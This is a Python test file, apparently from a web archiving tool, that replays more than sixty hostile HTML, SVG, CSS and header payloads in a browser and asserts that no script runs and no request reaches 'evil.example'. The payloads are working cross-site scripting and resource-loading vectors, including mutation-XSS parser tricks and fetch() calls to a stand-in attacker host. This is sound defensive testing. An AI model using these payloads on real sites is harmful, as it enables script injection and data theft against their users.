"""Hostile pages stay inert in a browser: no script runs, and no request goes beyond the archived part."""

from __future__ import annotations

import shutil
from collections.abc import Iterator
from typing import TYPE_CHECKING

import pytest

from archivebot.models import Headers
from archivebot.vision.render import BROWSERS
from tests.factories import make_page
from tests.served import Served, archived, serving

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Dialog, Request

SITE = "http://ex.org/"
EVIL = "http://evil.example/"
RUN = f"document.title='RAN';fetch('{EVIL}');alert(1)"

PAGES = [
    f"<script>{RUN}</script>",
    f"<script src={EVIL}s.js></script>",
    f"<script type=module>import '{EVIL}s.js';{RUN}</script>",
    f'<script type=speculationrules>{{"prefetch":[{{"urls":["{EVIL}"]}}]}}</script>',
    f'<body onload="{RUN}">',
    f'<body onpageshow="{RUN}">',
    f'<img src=x onerror="{RUN}">',
    f"<img src={EVIL}i.png>",
    f"<img srcset='{EVIL}i.png 1x, {EVIL}j.png 2x'>",
    f"<picture><source srcset={EVIL}i.png><img></picture>",
    f'<svg onload="{RUN}">',
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script xlink:href={EVIL}s.js /></svg>",
    f"<svg><image href={EVIL}i.png /></svg>",
    f"<svg><use href={EVIL}s.svg#a /></svg>",
    f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s></svg>',
    f"<svg><style>@import url({EVIL}s.css);</style></svg>",
    f'<svg><style><img src=x onerror="{RUN}"></style></svg>',
    f'<svg><title><img src=x onerror="{RUN}"></title></svg>',
    f'<svg><foreignObject><iframe srcdoc="<script>{RUN}</script>"></iframe></foreignObject></svg>',
    f"<svg><rect width=9 height=9 fill='url({EVIL}p.svg#a)' /></svg>",
    f"<svg><feImage href={EVIL}i.png /></svg>",
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
    f"<math><annotation-xml encoding=text/html><script>{RUN}</script></annotation-xml></math>",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>',
    f'<textarea></textarea><img src=x onerror="{RUN}"></textarea>',
    f'<title></title><img src=x onerror="{RUN}">',
    f"<template shadowrootmode=open><script>{RUN}</script><img src={EVIL}i.png></template>",
    f'<div><template shadowrootmode=open><img src={EVIL}i.png onerror="{RUN}"></template></div>',
    f"<!--><script>{RUN}</script>-->",
    f"<![CDATA[><script>{RUN}</script>]]>",
    f"<xmp></xmp><script>{RUN}</script>",
    f"<plaintext><script>{RUN}</script>",
    f'<iframe src="javascript:{RUN}"></iframe>',
    f"<iframe src={EVIL}></iframe>",
    "<iframe src=/></iframe>",
    f'<iframe src="data:text/html,<script>{RUN}</script><img src={EVIL}i.png>"></iframe>',
    f'<iframe srcdoc="<script>{RUN}</script><img src={EVIL}i.png>"></iframe>',
    f'<frameset onload="{RUN}"><frame src={EVIL}></frameset>',
    f"<object data={EVIL}o.swf></object>",
    f'<object data="data:text/html,<script>{RUN}</script>"></object>',
    f"<embed src={EVIL}e.swf>",
    f"<applet code=x archive={EVIL}a.jar></applet>",
    f"<base href={EVIL}><img src=i.png><script src=s.js></script>",
    f'<base href="javascript:{RUN}//"><a href=x>x</a>',
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f'<meta http-equiv=refresh content="0;url=javascript:{RUN}">',
    f"<meta http-equiv=refresh content='0;url=data:text/html,<script>{RUN}</script>'>",
    f"<svg><style><meta http-equiv=refresh content='0;url={EVIL}'></style></svg>",
    f"<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\"><script>{RUN}</script>",
    f"<link rel=stylesheet href={EVIL}s.css>",
    f"<link rel=dns-prefetch href={EVIL}><link rel=preconnect href={EVIL}><link rel=prefetch href={EVIL}>",
    f"<link rel=preload as=image href={EVIL}i.png><link rel=modulepreload href={EVIL}s.js>",
    f"<link rel=manifest href={EVIL}m.json><link rel=icon href={EVIL}i.ico>",
    f"<style>@import '{EVIL}s.css'; body {{ background: url({EVIL}i.png) }}</style>",
    f"<style>body {{ background: u\\72l({EVIL}i.png) }} @\\69mport '{EVIL}s.css';</style>",
    f"<style>body {{ background: image-set('{EVIL}i.png' 1x) }}</style>",
    f"<style>@font-face {{ font-family: f; src: url({EVIL}f.woff2) }} body {{ font-family: f }}</style>x",
    f"<p style=\"background:url('{EVIL}i.png')\">x",
    f"<video src={EVIL}v.mp4 poster={EVIL}p.png autoplay></video><audio src={EVIL}a.ogg autoplay></audio>",
    f'<video><source src={EVIL}v.mp4 onerror="{RUN}"></video>',
    f'<input type=image src={EVIL}i.png><input autofocus onfocus="{RUN}">',
    f"<table background={EVIL}b.png><td background={EVIL}c.png>x",
    f'<details open ontoggle="{RUN}">x</details><marquee onstart="{RUN}">x</marquee>',
    f"<portal src={EVIL}></portal><fencedframe src={EVIL}></fencedframe>",
    f"</archivebot-banner></template><script>{RUN}</script>",
]

SCRIPT = f"<script>{RUN}</script>"
UTF_7 = "<meta charset=utf-7>+ADw-script+AD4-document.title='RAN'+ADw-/script+AD4-"

OTHERS: list[tuple[str, str, Headers]] = [
    (
        "x.svg",
        f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{RUN}\">{SCRIPT}</svg>",
        (("Content-Type", "image/svg+xml"),),
    ),
    (
        "x.xhtml",
        f"<html xmlns='http://www.w3.org/1999/xhtml'><head>{SCRIPT}</head><body/></html>",
        (("Content-Type", "application/xhtml+xml"),),
    ),
    ("x.xml", f"<?xml-stylesheet href='{EVIL}x.xsl' type='text/xsl'?><a/>", (("Content-Type", "text/xml"),)),
    ("x.txt", SCRIPT, (("Content-Type", "text/plain"),)),
    ("x.js", RUN, (("Content-Type", "text/javascript"),)),
    ("utf7", UTF_7, (("Content-Type", "text/html"),)),
    (f"?{SCRIPT}", f"<title>\"'>{SCRIPT}</title><p>x", (("Content-Type", "text/html"),)),
    (
        "headers",
        "<p>x",
        (
            ("Content-Type", "text/html"),
            ("Refresh", f"0;url={EVIL}"),
            ("Link", f"<{EVIL}s.css>; rel=stylesheet"),
            ("Link", f"<{EVIL}>; rel=preconnect"),
            ("Content-Security-Policy", "default-src *"),
        ),
    ),
]


@pytest.fixture(scope="module")
def urls() -> list[str]:
    return [f"{SITE}{number}" for number in range(len(PAGES))] + [SITE + name for name, _, _ in OTHERS]


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    pages = [make_page(text.encode(), url=f"{SITE}{number}") for number, text in enumerate(PAGES)]
    pages += [make_page(text.encode(), url=SITE + name, headers=headers) for name, text, headers in OTHERS]
    uri = f"sqlite:///{tmp_path_factory.mktemp('hostile')}/archive.db"
    with serving(archived(uri, pages)) as served:
        yield served


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    playwright = pytest.importorskip("playwright.sync_api", reason="no Playwright: pip install playwright")
    program = next(filter(None, map(shutil.which, BROWSERS)), None)
    if program is None:
        pytest.skip("no browser: apt-get install chromium")
    with playwright.sync_playwright() as running:
        found = running.chromium.launch(
            executable_path=program, args=["--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE 127.0.0.1"]
        )
        yield found
        found.close()


def visited(browser: Browser, address: str, bad: list[str]) -> list[Request]:
    """Open an address, note what ran, and return the requests that were made."""
    page = browser.new_page()
    asked: list[Request] = []
    page.on("request", lambda request: asked.append(request))

    def say(dialog: Dialog) -> None:
        bad.append(f"{address}: {dialog.message}")
        dialog.dismiss()

    page.on("dialog", say)
    page.goto(address, wait_until="load")
    page.wait_for_timeout(50)
    if page.title() == "RAN":
        bad.append(f"{address}: a script ran")
    page.close()
    return asked


@pytest.mark.long
@pytest.mark.parametrize("modifier", ["", "if_", "id_"])
def test_hostile_pages_stay_inert(server: Served, browser: Browser, urls: list[str], modifier: str) -> None:
    assert len(urls) >= 60
    bad: list[str] = []
    here = (f"{server.host}/web/", f"{server.host}/favicon.ico", "data:", "blob:", "about:")
    for url in urls:
        asked = visited(browser, f"{server.host}/web/2026{modifier}/{url}", bad)
        outside = [each for each in asked if not each.url.startswith(here)]
        # An exact page asks for what it names; the policy refuses that before anything is sent.
        refused = [each for each in outside if modifier == "id_" and each.failure in ("csp", "origin")]
        bad += [f"{url}: {each.url} {each.failure}" for each in outside if each not in refused]
    assert bad == []


@pytest.mark.long
def test_hostile_names_stay_inert_in_the_interface(server: Served, browser: Browser, urls: list[str]) -> None:
    bad: list[str] = []
    for path in (
        "/",
        f"/site?url={SITE}",
        f"/page?url={urls[-1]}",
        f"/web/2026/{SITE}none<script>{RUN}</script>",
    ):
        visited(browser, server.host + path, bad)
    assert bad == []
